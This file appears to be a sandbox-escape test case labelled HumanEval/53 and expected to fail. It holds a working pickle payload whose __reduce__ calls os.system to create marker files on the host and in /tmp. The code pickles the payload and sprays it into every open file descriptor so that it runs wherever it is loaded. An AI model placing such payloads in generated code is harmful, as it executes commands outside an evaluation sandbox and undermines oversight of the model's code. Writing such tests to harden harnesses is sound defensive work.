# task: HumanEval/53
# expect: not passed
# why: A pickle that runs code where it is loaded, on every descriptor.
    import os, pickle, struct
    class Evil:
        def __reduce__(self):
            return (os.system, ("touch @HOST@/llama-trace-pickle; touch /tmp/llama-trace-pickle",))
    payload = pickle.dumps(Evil())
    for fd in range(3, 1024):
        try:
            os.write(fd, payload)
            os.write(fd, struct.pack("<I", len(payload)) + payload)
        except OSError:
            pass
    return Evil()
